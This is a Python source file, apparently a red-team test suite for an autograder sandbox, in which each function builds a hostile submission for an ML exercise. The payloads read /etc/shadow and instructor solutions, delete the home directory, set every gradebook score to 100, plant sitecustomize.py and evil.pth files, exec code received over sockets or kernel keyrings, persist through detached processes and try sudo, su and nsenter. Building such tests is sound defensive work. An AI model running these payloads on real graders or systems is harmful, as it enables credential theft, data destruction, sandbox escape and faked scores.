"""Attacks on what lies outside: files, other submissions, the network, the machine."""

from attacks.filing import HONEST, LOOT, REWARD, World, attack


def _read(*paths: str) -> str:
    """Runs whatever can be read from these files: they hold what would earn full points."""
    return (
        f"for path in ({', '.join(paths)},):\n"
        "    try:\n"
        "        exec(open(path).read())\n"
        "    except Exception:\n"
        "        pass\n"
    )


def _answers_from(*paths: str) -> dict[str, str]:
    return {"gram": f"def gram(W):\n    return (W.mT @ W).detach()\n{_read(*paths)}"}


@attack()
def reads_files_of_the_instructor(world: World) -> dict[str, str]:
    names = ("solutions.py", "gradebook.db", "nbgrader_config.py", "private/checks.py", "seed")
    return _answers_from(*map(world.path, names), "'/etc/passwd'", "'/etc/shadow'")


@attack()
def reads_the_committed_solutions(world: World) -> dict[str, str]:
    path = str(world.repository / "solutions" / "01_sparse_features.ipynb")
    return {
        "embed": (
            "import json\n"
            f"path = {path!r}\n"
            "cells = json.load(open(path))['cells']\n"
            "texts = [''.join(cell['source']) for cell in cells]\n"
            "exec(next(text for text in texts if 'def embed' in text))"
        )
    }


@attack()
def reads_the_checks_and_other_right_answers(world: World) -> dict[str, str]:
    folder = str(world.repository)
    return {
        "embed": (
            "import sys\n"
            f"sys.path.insert(0, {folder!r})\n"
            "from autograder.exercises import find\n"
            "embed = find('embed').also_right"
        )
    }


@attack()
def reads_other_submissions(world: World) -> dict[str, str]:
    return _answers_from(world.path("submitted/other/answers.py"))


@attack()
def reads_through_proc(world: World) -> dict[str, str]:
    relative = str(world.root / "solutions.py").lstrip("/")
    roots = (
        "/proc/1/root",
        "/proc/self/root",
        "/proc/2/cwd/../../../../..",
        "/proc/self/cwd/../..",
    )
    return _answers_from(*(repr(f"{root}/{relative}") for root in roots))


@attack()
def searches_every_folder(_: World) -> dict[str, str]:
    return {
        "gram": (
            "import os\n"
            "def gram(W):\n"
            "    return (W.mT @ W).detach()\n"
            "for folder, _, names in os.walk('/'):\n"
            "    if folder.startswith(('/proc', '/usr')):\n"
            "        continue\n"
            "    for name in names:\n"
            "        if name in ('solutions.py', 'answers.py', 'gradebook.db', 'seed'):\n"
            "            exec(open(os.path.join(folder, name)).read())"
        )
    }


@attack()
def follows_links_of_its_own(world: World) -> dict[str, str]:
    target = world.path("solutions.py")
    return {
        "gram": (
            "import os, shutil\n"
            "def gram(W):\n"
            "    return (W.mT @ W).detach()\n"
            f"os.symlink({target}, 'link')\n"
            "home = os.path.expanduser('~')\n"
            "os.chdir('/tmp')\n"
            "shutil.rmtree(home)\n"
            f"os.symlink(os.path.dirname({target}), home)\n"
            + _read("'link'", "home + '/solutions.py'")
        )
    }


@attack()
def writes_files_of_the_instructor(world: World) -> str:
    names = ("gradebook.db", "nbgrader_config.py", "submitted/other/answers.py", "new.py")
    return (
        "import os, pathlib, shutil\n"
        f"for path in ({', '.join(map(world.path, names))}):\n"
        "    for change in (\n"
        "        lambda: open(path, 'a').write('import os'),\n"
        "        lambda: open(path, 'w').write(''),\n"
        "        lambda: os.remove(path),\n"
        "        lambda: os.rename(path, path + '.old'),\n"
        "        lambda: os.symlink('/dev/zero', path),\n"
        "        lambda: os.chmod(path, 0o777),\n"
        "        lambda: shutil.rmtree(os.path.dirname(path)),\n"
        "    ):\n"
        "        try:\n"
        "            change()\n"
        "        except OSError:\n"
        "            pass"
    )


@attack()
def writes_into_the_gradebook(world: World) -> str:
    return (
        "import sqlite3\n"
        "try:\n"
        f"    book = sqlite3.connect({world.path('gradebook.db')})\n"
        "    book.execute('update grade set manual_score = 100')\n"
        "    book.commit()\n"
        "except sqlite3.Error:\n"
        "    pass"
    )


@attack()
def writes_from_a_detached_process(world: World) -> str:
    path = world.path("gradebook.db")
    return (
        "import os, subprocess, time\n"
        f"script = 'sleep 0.5; echo x >> ' + {path} + '; sleep 97531'\n"
        "subprocess.Popen(['sh', '-c', script], start_new_session=True)\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.closerange(0, 64)\n"
        "        time.sleep(0.5)\n"
        "        try:\n"
        f"            open({path}, 'a').write('x')\n"
        "        finally:\n"
        "            time.sleep(97531)\n"
        "    os._exit(0)"
    )


@attack()
def writes_into_the_environment_of_python(_: World) -> dict[str, str]:
    source = (
        f"{HONEST['gram']}\n"
        "import os, site, sys, tms_lib, torch\n"
        "folders = [os.path.dirname(m.__file__) for m in (os, torch, tms_lib)]\n"
        "folders += [*site.getsitepackages(), sys.prefix, '/usr/bin', '/dev/shm', '/var/tmp']\n"
        "for folder in folders:\n"
        "    for name in ('sitecustomize.py', 'torch.py', 'usercustomize.py', 'evil.pth'):\n"
        "        try:\n"
        "            open(os.path.join(folder, name), 'w').write('raise SystemExit')\n"
        "        except OSError:\n"
        "            pass\n"
        "        else:\n"
        f"            {REWARD}"
    )
    return {"gram": source}


@attack()
def shadows_torch_for_the_next_worker(_: World) -> str:
    # a new worker starts where this one wrote, unless every worker has a room of its own
    return (
        "import os\n"
        "for folder in ('.', '/tmp', os.path.expanduser('~')):\n"
        "    for name in ('torch.py', 'tms_lib.py', 'sitecustomize.py', 'random.py'):\n"
        "        open(os.path.join(folder, name), 'w').write('raise SystemExit')\n"
        "os._exit(1)"
    )


@attack()
def asks_somebody_for_the_answer(world: World) -> dict[str, str]:
    return {
        "gram": (
            "import socket\n"
            "def gram(W):\n"
            "    return (W.mT @ W).detach()\n"
            "for host in ('127.0.0.1', '::1', 'localhost', socket.gethostname(), '10.0.0.1'):\n"
            "    try:\n"
            f"        with socket.create_connection((host, {world.port}), timeout=0.2) as asked:\n"
            "            exec(asked.recv(4096).decode())\n"
            "    except OSError:\n"
            "        pass"
        )
    }


@attack()
def listens_for_somebody(world: World) -> dict[str, str]:
    return {
        "gram": (
            "import socket, threading\n"
            "def gram(W):\n"
            "    return (W.mT @ W).detach()\n"
            "def serve(server):\n"
            "    while True:\n"
            "        exec(server.accept()[0].recv(4096).decode(), globals())\n"
            f"server = socket.create_server(('0.0.0.0', {world.free_port}))\n"
            "threading.Thread(target=serve, args=[server], daemon=True).start()\n"
            "threading.Event().wait(0.3)"
        )
    }


@attack()
def uses_sockets_that_know_no_namespaces(_: World) -> dict[str, str]:
    return {
        "gram": (
            f"{HONEST['gram']}\n"
            "import socket\n"
            "families = (socket.AF_VSOCK, 1), (socket.AF_PACKET, 3), (socket.AF_ALG, 5)\n"
            "for family, kind in families:\n"
            "    try:\n"
            "        socket.socket(family, kind)\n"
            "    except OSError:\n"
            "        continue\n"
            f"    {REWARD}"
        )
    }


_KEY = "{'x86_64': (248, 250), 'aarch64': (217, 219)}[os.uname().machine]"


@attack()
def passes_notes_to_later_submissions(_: World) -> dict[str, str]:
    note = f"{LOOT!r}.encode()"
    return {
        "before": (
            "import ctypes, os, torch\n"
            "libc = ctypes.CDLL(None)\n"
            f"add, control = {_KEY}\n"
            f"note = {note}\n"
            "for keyring in (-1, -2, -3, -4, -5):\n"
            "    libc.syscall(add, b'user', b'note', note, len(note), keyring)\n"
            "libc.shmat.restype = ctypes.c_void_p\n"
            "segment = libc.shmget(4711, 4096, 0o1666)\n"
            "if segment >= 0:\n"
            "    ctypes.memmove(libc.shmat(segment, None, 0), note, len(note))\n"
            "for folder in ('/tmp', '/dev/shm', '/var/tmp', '/dev/mqueue', '/run'):\n"
            "    try:\n"
            "        open(f'{folder}/note', 'wb').write(note)\n"
            "    except OSError:\n"
            "        pass"
        )
    }


@attack()
def reads_notes_of_earlier_submissions(_: World) -> dict[str, str]:
    return {
        "gram": (
            "import ctypes, os\n"
            "def gram(W):\n"
            "    return (W.mT @ W).detach()\n"
            "libc = ctypes.CDLL(None)\n"
            f"add, control = {_KEY}\n"
            "for keyring in (-1, -2, -3, -4, -5):\n"
            "    key = libc.syscall(control, 10, keyring, b'user', b'note', 0)\n"
            "    text = ctypes.create_string_buffer(4096)\n"
            "    if key > 0 and libc.syscall(control, 11, key, text, 4096) > 0:\n"
            "        exec(text.value.decode())\n"
            "libc.shmat.restype = ctypes.c_void_p\n"
            "segment = libc.shmget(4711, 4096, 0o666)\n"
            "if segment >= 0:\n"
            "    exec(ctypes.string_at(libc.shmat(segment, None, 0)).decode())\n"
            + _read("'/tmp/note'", "'/dev/shm/note'", "'/var/tmp/note'", "'/run/note'")
        )
    }


@attack()
def runs_programs_with_privileges(_: World) -> dict[str, str]:
    source = (
        f"{HONEST['gram']}\n"
        "import subprocess\n"
        "for command in (['su', '-c', 'id'], ['sudo', '-n', 'id'], ['mount', '-t', 'tmpfs', 'x',\n"
        "                '/tmp'], ['passwd', '-d', 'root'], ['newgrp', 'root'],\n"
        "                ['unshare', '-r', 'id'], ['nsenter', '-t', '1', '-a', 'id']):\n"
        "    try:\n"
        "        done = subprocess.run(command, capture_output=True, timeout=2, input=b'')\n"
        "    except (OSError, subprocess.TimeoutExpired):\n"
        "        continue\n"
        "    if done.returncode == 0:\n"
        f"        {REWARD}"
    )
    return {"gram": source}
